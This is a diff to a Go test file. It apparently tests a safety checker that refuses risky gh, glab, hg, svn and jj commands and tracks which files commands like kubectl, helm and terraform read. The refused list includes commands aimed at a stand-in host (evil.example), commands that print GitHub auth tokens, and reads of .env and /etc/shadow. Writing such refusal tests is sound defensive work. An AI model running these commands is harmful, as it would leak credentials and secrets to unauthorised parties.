@@ -84,3 +84,38 @@ func TestHostileAWS(t *testing.T) {
 		"aws \"$x\" list-a", "aws s3api \"list-$x\"", "aws --profile \"$p\" $x", "aws --ca-bundle f --endpoint-url=http://h s3 ls",
 	)
 }
+
+func TestHostileForges(t *testing.T) {
+	refuses(t,
+		"gh pr list -R evil.example/a/b", "gh pr list --repo=https://evil.example/a/b", "gh pr list -R git@evil.example:a/b", "gh -R x pr list", "gh pr -R evil.example/a/b list", "gh pr view https://evil.example/a/b/pull/1",
+		"gh issue view https://evil.example/a/b/issues/1", "gh repo view evil.example/a/b", "gh secret list -Revil.example/a/b", "gh pr view --web", "gh pr view -cw", "gh pr view --web=true", "gh issue list -w", "gh browse", "gh pr checkout 1",
+		"gh run view 1 -w", "gh run download 1", "gh release download", "gh repo clone a/b", "gh gist view 1 -w", "gh gist clone 1", "gh auth token", "gh auth status -t", "gh auth status --show-token", "gh auth setup-git", "gh config set pager x",
+		"gh config get oauth_token", "gh alias list", "gh extension list", "gh dash", "gh copilot explain x", "gh codespace list", "gh api -X DELETE a", "gh api a -XPUT", "gh api a --method=PATCH", "gh api a -f x=y", "gh api a -Fx=@f",
+		"gh api a --input f", "gh api a --input=-", "gh api https://evil.example/a", "gh api --hostname evil.example user", "gh api graphql -f query='mutation{x}'", "gh api graphql -F query=@f", "gh api a -H 'X-HTTP-Method-Override: PUT'",
+		"gh api a b", "gh api \"$x\"", "gh api -X \"$m\" a", "gh api user --cache 1h", "gh secret set X", "gh variable set X", "gh workflow run x", "gh search repos x --web", "gh pr list --help=false -w",
+		"glab mr list -R https://evil.example/a/b", "glab mr view https://evil.example/a/b/-/merge_requests/1", "glab mr list -w", "glab mr view 1 --web", "glab api x", "glab mr checkout 1", "glab variable get X", "glab auth status -t", "glab mr list -o x",
+		"hg -R ssh://h/x log", "hg log -R https://h/x", "hg --cwd d --repo ssh://h id", "hg id ssh://h/x", "hg log --config ui.editor=x", "hg st --conf a=b", "hg log --debugg", "hg cat -o f a", "hg cat --outp f a", "hg branch x", "hg summary --remote",
+		"hg incoming", "hg paths --config x=y", "hg diff --profile", "hg extdiff", "hg help --config a=b", "svn status -u", "svn diff -r 1", "svn diff --diff-cmd=x", "svn diff --old a --new b", "svn info -r HEAD", "svn info https://h/x", "svn log", "svn cat a",
+		"svn diff --config-option a:b:c=d", "svn info --config-dir d", "svn st --config-dir=d", "jj log", "jj st", "jj diff --tool x", "jj --config a=b log",
+	)
+}
+
+func TestTemplatesAreFiles(t *testing.T) {
+	acts(t, []struct {
+		text string
+		want []string
+	}{
+		{"hg log -T ./.env", []string{"read ./.env", "trust ."}},
+		{"hg log -T '{rev}'", []string{"trust ."}},
+		{"hg --cwd a log --style b/c", []string{"trust a", "read a/b/c", "trust ."}},
+		{"hg -R /tmp/x status", []string{"trust /tmp/x", "trust ."}},
+		{"kubectl get po -o go-template-file=.env", []string{"read .env"}},
+		{"kubectl get po -o=jsonpath-file=a", []string{"read a"}},
+		{"kubectl get po -otemplatefile --template=.env", []string{"read .env"}},
+		{"kubectl get -f ./a.yaml", []string{"read ./a.yaml"}},
+		{"helm template ./c -f .env,b.yaml --set-file a=.env", []string{"read ./c", "read .env", "read b.yaml", "read .env"}},
+		{"terraform -chdir=/etc show shadow", []string{"read /etc/shadow", "trust /etc"}},
+		{"terraform -chdir=d fmt", []string{"write d"}},
+		{"terraform show p", []string{"read p", "trust ."}},
+	})
+}
